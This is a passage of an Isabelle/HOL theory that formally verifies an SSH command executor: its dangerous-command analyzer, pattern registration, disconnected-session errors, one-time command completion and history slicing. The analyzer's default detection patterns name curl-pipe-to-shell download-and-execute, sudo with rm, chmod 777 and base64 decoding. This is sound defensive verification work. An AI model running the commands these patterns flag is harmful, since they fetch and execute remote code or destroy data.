                          ''[MEDIUM] Using sudo with rm'',
                          ''[MEDIUM] World-writable permissions''])"
proof -
  have nw: "\<not> isWhitelisted defaults_loader mixed_command"
    by code_simp
  have dv: "list_all has_severity (matching mixed_command (dangerousPatterns defaults_loader))"
    by code_simp
  have sv: "list_all has_severity (matching mixed_command (suspiciousPatterns defaults_loader))"
    by code_simp
  have ws: "map line_of (matching mixed_command (dangerousPatterns defaults_loader))
              @ map line_of (matching mixed_command (suspiciousPatterns defaults_loader))
             = [''[HIGH] Download and execute via curl'', ''[MEDIUM] Using sudo with rm'',
                ''[MEDIUM] World-writable permissions'']"
    by code_simp
  have dn: "map name (matching mixed_command (dangerousPatterns defaults_loader))
              = [''curl_pipe_to_shell'']"
    by code_simp
  have sn: "map name (matching mixed_command (suspiciousPatterns defaults_loader))
              = [''sudo_with_rm'', ''chmod_777'']"
    by code_simp
  note th = warnings_complete [OF nw]
  note rest = th [THEN conjunct2]
  from rest [THEN conjunct2, THEN conjunct1, THEN mp, OF conjI [OF dv sv]]
  obtain a where a: "analyzeCommand defaults_loader mixed_command = Inr a" ..
  note w = rest [THEN conjunct2, THEN conjunct2, THEN spec, THEN mp, OF a, unfolded ws]
  have e: "\<exists>a. analyzeCommand defaults_loader mixed_command = Inr a
         \<and> warnings a = [''[HIGH] Download and execute via curl'',
                          ''[MEDIUM] Using sudo with rm'',
                          ''[MEDIUM] World-writable permissions'']"
    by (rule exI [of _ a]) (rule conjI [OF a w])
  have n1: "map name (matches (isDangerous defaults_loader mixed_command))
              = [''curl_pipe_to_shell'']"
    unfolding th [THEN conjunct1] by (rule dn)
  have n2: "map name (matches (isSuspicious defaults_loader mixed_command))
              = [''sudo_with_rm'', ''chmod_777'']"
    unfolding rest [THEN conjunct1] by (rule sn)
  show ?thesis
    by (rule conjI [OF n1 conjI [OF n2 e]])
qed

subsection \<open>Adding a pattern\<close>

text \<open>
  Claim C7. When the expression does not compile, or the type is none of \<open>dangerous\<close>,
  \<open>suspicious\<close> and \<open>whitelisted\<close>, \<open>addPattern\<close> returns \<open>false\<close> and the loader is what
  it was. When the expression compiles and the type is one of the three, it returns
  \<open>true\<close>, the compiled pattern is appended to the collection of that type, and nothing
  else changes.
\<close>

theorem addPattern_atomic:
  "(parse (cfg_pattern pc) = None \<or> type \<notin> {''dangerous'', ''suspicious'', ''whitelisted''}
      \<longrightarrow> addPattern parse type pc ld = (False, ld))
   \<and> (parse (cfg_pattern pc) = Some r \<and> type \<in> {''dangerous'', ''suspicious'', ''whitelisted''}
      \<longrightarrow> (let p = \<lparr>name = cfg_name pc,
                        regex = \<lparr>source = cfg_pattern pc, flags = compile_flags (settings ld),
                                 prog = r\<rparr>,
                        description = cfg_description pc,
                        severity = Some (case cfg_severity pc of None \<Rightarrow> ''medium''
                                         | Some sv \<Rightarrow> if sv = [] then ''medium'' else sv),
                        examples = Some (or_empty (cfg_examples pc))\<rparr>
           in addPattern parse type pc ld =
                (True,
                 ld\<lparr>dangerousPatterns :=
                      dangerousPatterns ld @ (if type = ''dangerous'' then [p] else []),
                    suspiciousPatterns :=
                      suspiciousPatterns ld @ (if type = ''suspicious'' then [p] else []),
                    whitelistedPatterns :=
                      whitelistedPatterns ld @ (if type = ''whitelisted'' then [p] else [])\<rparr>)))"
  by (auto simp: addPattern_def RegExp_def Let_def split: option.splits)

text \<open>
  The theorem at the default patterns: an expression that does not compile, a type that
  does not exist, and a valid suspicious pattern.
\<close>

theorem addPattern_atomic_witness:
  "addPattern sample_parse ''dangerous'' (sample_entry ''('' None) defaults_loader
     = (False, defaults_loader)
   \<and> addPattern sample_parse ''blocked'' (sample_entry ''docker rm'' None) defaults_loader
     = (False, defaults_loader)
   \<and> fst (addPattern sample_parse ''suspicious'' (sample_entry ''docker rm'' None)
           defaults_loader) = True
   \<and> map name (suspiciousPatterns (snd (addPattern sample_parse ''suspicious''
           (sample_entry ''docker rm'' None) defaults_loader)))
       = [''sudo_with_rm'', ''chmod_777'', ''redirect_to_dev_null'', ''base64_decode'', ''sample'']
   \<and> dangerousPatterns (snd (addPattern sample_parse ''suspicious''
           (sample_entry ''docker rm'' None) defaults_loader))
       = dangerousPatterns defaults_loader"
proof -
  have a: "sample_parse (cfg_pattern (sample_entry ''('' None)) = None"
    by (simp add: sample_parse_def sample_entry_def)
  have b: "''blocked'' \<notin> {''dangerous'', ''suspicious'', ''whitelisted''}"
    by simp
  have c: "sample_parse (cfg_pattern (sample_entry ''docker rm'' None)) = Some (lits ''docker rm'')
           \<and> ''suspicious'' \<in> {''dangerous'', ''suspicious'', ''whitelisted''}"
    by (simp add: sample_parse_def sample_entry_def)
  have n: "map name (suspiciousPatterns defaults_loader)
             = [''sudo_with_rm'', ''chmod_777'', ''redirect_to_dev_null'', ''base64_decode'']"
    by code_simp
  have 1: "addPattern sample_parse ''dangerous'' (sample_entry ''('' None) defaults_loader
             = (False, defaults_loader)"
    using addPattern_atomic [of sample_parse "sample_entry ''('' None" "''dangerous''"
        defaults_loader] a by simp
  have 2: "addPattern sample_parse ''blocked'' (sample_entry ''docker rm'' None) defaults_loader
             = (False, defaults_loader)"
    using addPattern_atomic [of sample_parse "sample_entry ''docker rm'' None" "''blocked''"
        defaults_loader] b by simp
  have 3: "fst (addPattern sample_parse ''suspicious'' (sample_entry ''docker rm'' None)
                  defaults_loader) = True
           \<and> map name (suspiciousPatterns (snd (addPattern sample_parse ''suspicious''
                  (sample_entry ''docker rm'' None) defaults_loader)))
               = map name (suspiciousPatterns defaults_loader) @ [''sample'']
           \<and> dangerousPatterns (snd (addPattern sample_parse ''suspicious''
                  (sample_entry ''docker rm'' None) defaults_loader))
               = dangerousPatterns defaults_loader"
    using addPattern_atomic [of sample_parse "sample_entry ''docker rm'' None" "''suspicious''"
        defaults_loader "lits ''docker rm''"] c
    by (simp add: Let_def sample_entry_def)
  from 1 2 3 show ?thesis by (simp add: n)
qed

subsection \<open>A session that is not connected\<close>

text \<open>
  Claim C8. On a session whose \<open>connected\<close> flag is false, \<open>executeCommand\<close> throws the
  not-connected error and the session is what it was: nothing is written to the
  transport, and the history, the output buffer and the event log do not change.
\<close>

theorem executeCommand_not_connected:
  "\<not> connected s \<Longrightarrow>
     executeCommand ld now c opts s = (Inl (Error ''SSH session not connected''), s)"
  by (simp add: executeCommand_def)

theorem executeCommand_not_connected_witness:
  "\<not> connected (sample_session\<lparr>connected := False\<rparr>) \<and>
   executeCommand defaults_loader 0 ''ls -la'' default_options
     (sample_session\<lparr>connected := False\<rparr>)
   = (Inl (Error ''SSH session not connected''), sample_session\<lparr>connected := False\<rparr>)"
  using executeCommand_not_connected
    [of "sample_session\<lparr>connected := False\<rparr>" defaults_loader 0 "''ls -la''" default_options]
  by simp

subsection \<open>Completion happens once\<close>

text \<open>
  Claim C9, as it holds of the closure. From the state in which \<open>executeCommand\<close> leaves a
  command that it has sent, let chunks arrive on either stream, the transport exit and
  the timers fire, in any order and at any times. Then at most one result is resolved, and the \<open>executed\<close> events emitted since
  are exactly the resolved results. Once the command is completed there is one result,
  the listener is detached and no idle timer is pending; a further chunk leaves the
  closure as it is, and whatever happens later changes neither the result nor the
  output. The ceiling timer is not cancelled by completion: when it fires later, all it
  does is to stop being pending.
\<close>

theorem completion_idempotent:
  assumes ex: "executeCommand ld now c opts s = (Inr x, s')"
      and rn: "run evs (x, s') = (x1, s1)"
  shows "length (resolved x1) \<le> 1
       \<and> executed_results (emitted s1) = executed_results (emitted s') @ resolved x1
       \<and> (if commandCompleted x1
          then length (resolved x1) = 1 \<and> \<not> listening x1 \<and> idleTimer x1 = None
             \<and> fst (step t (Data d) (x1, s1)) = x1
             \<and> fst (step t MaxFires (x1, s1)) = x1\<lparr>maxTimeout := None\<rparr>
             \<and> resolved (fst (run later (x1, s1))) = resolved x1
             \<and> x_output (fst (run later (x1, s1))) = x_output x1
          else resolved x1 = [] \<and> listening x1)"
proof -
  have a: "settled x" "resolved x = []"
    using armed_settled [OF ex] by (simp_all add: settled_def)
  have b: "settled x1" using run_settled [OF a(1), of evs s'] rn by simp
  have c: "executed_results (emitted s1) = executed_results (emitted s') @ resolved x1"
    using run_results [OF a rn] .
  show ?thesis
  proof (cases "commandCompleted x1")
    case True
    obtain x2 s2 where m: "run later (x1, s1) = (x2, s2)" by (cases "run later (x1, s1)")
    have "resolved x2 = resolved x1 \<and> x_output x2 = x_output x1"
      using run_completed [OF b True m] by simp
    moreover have "fst (step t (Data d) (x1, s1)) = x1"
      using b True by (simp add: settled_def Let_def)
    moreover have "fst (step t MaxFires (x1, s1)) = x1\<lparr>maxTimeout := None\<rparr>"
      using True by (simp add: Let_def split: option.splits)
    ultimately show ?thesis using b c True m by (simp add: settled_def)
  next
    case False
    then show ?thesis using b c by (simp add: settled_def)
  qed
qed

text \<open>
  The theorem on \<open>echo ok\<close>, sent at time 1000: a chunk arrives at 1010, the idle timer
  fires at 1510, then a late chunk arrives and the ceiling timer fires.
\<close>

theorem completion_idempotent_witness:
  "length (resolved (fst echo_done)) = 1
   \<and> executed_results (emitted (snd echo_done)) = resolved (fst echo_done)
   \<and> \<not> listening (fst echo_done) \<and> idleTimer (fst echo_done) = None
   \<and> fst (step 1600 (Data ''late'') echo_done) = fst echo_done
   \<and> resolved (fst (run [(1600, Data ''late''), (31000, MaxFires)] echo_done))
       = resolved (fst echo_done)
   \<and> x_output (fst (run [(1600, Data ''late''), (31000, MaxFires)] echo_done)) = ''ok''"
proof -
  have ex: "executeCommand defaults_loader 1000 ''echo ok'' default_options sample_session
              = (Inr (armed_at 1000 ''echo ok''), started_at 1000 ''echo ok'')"
    by code_simp
  have rn: "run [(1010, Data ''ok''), (1510, IdleFires)]
              (armed_at 1000 ''echo ok'', started_at 1000 ''echo ok'')
              = (fst echo_done, snd echo_done)"
    by (simp add: echo_done_def)
  have cc: "commandCompleted (fst echo_done) = True"
    by code_simp
  have e0: "executed_results (emitted (started_at 1000 ''echo ok'')) = []"
    by code_simp
  have out: "x_output (fst echo_done) = ''ok''"
    by code_simp
  from completion_idempotent [OF ex rn, of 1600 "''late''"
      "[(1600, Data ''late''), (31000, MaxFires)]"]
  show ?thesis
    unfolding cc e0 out by simp
qed

text \<open>
  Claim C9 as the specification words it fails on the ceiling timer: after the same
  chunk and idle timeout the command is completed, and the ceiling timer is still
  pending, due at 31000.
\<close>

theorem ceiling_timer_counterexample:
  "executeCommand defaults_loader 1000 ''echo ok'' default_options sample_session =
     (Inr (armed_at 1000 ''echo ok''), started_at 1000 ''echo ok'')
   \<and> commandCompleted (fst echo_done)
   \<and> maxTimeout (fst echo_done) = Some 31000"
  by code_simp

subsection \<open>Reading the history and the output buffer\<close>

text \<open>
  Claim C10. With a positive limit, \<open>getHistory\<close> and \<open>getOutput\<close> return the last
  \<open>min limit length\<close> entries of their list, in the list's order; with the limit 0 they
  return the whole list. Both only read the session.
\<close>

theorem getHistory_getOutput_limit:
  "(0 < limit \<longrightarrow>
      getHistory s (Some limit)
        = drop (length (commandHistory s) - nat limit) (commandHistory s)
    \<and> length (getHistory s (Some limit)) = min (nat limit) (length (commandHistory s))
    \<and> getOutput s (Some limit)
        = drop (length (outputBuffer s) - nat limit) (outputBuffer s)
    \<and> length (getOutput s (Some limit)) = min (nat limit) (length (outputBuffer s)))
   \<and> getHistory s (Some 0) = commandHistory s
   \<and> getOutput s (Some 0) = outputBuffer s"
  by (auto simp: getHistory_def getOutput_def slice_neg slice_zero)

theorem getHistory_getOutput_limit_witness:
  "map h_command (getHistory busy_session (Some 2)) = [''pwd'', ''whoami'']
   \<and> map c_data (getOutput busy_session (Some 2)) = [''b'', ''c'']
   \<and> map h_command (getHistory busy_session (Some 0)) = [''ls'', ''pwd'', ''whoami'']
   \<and> map c_data (getOutput busy_session (Some 0)) = [''a'', ''b'', ''c'']"
  using getHistory_getOutput_limit [of 2 busy_session]
  by (simp add: busy_session_def sample_session_def)

end
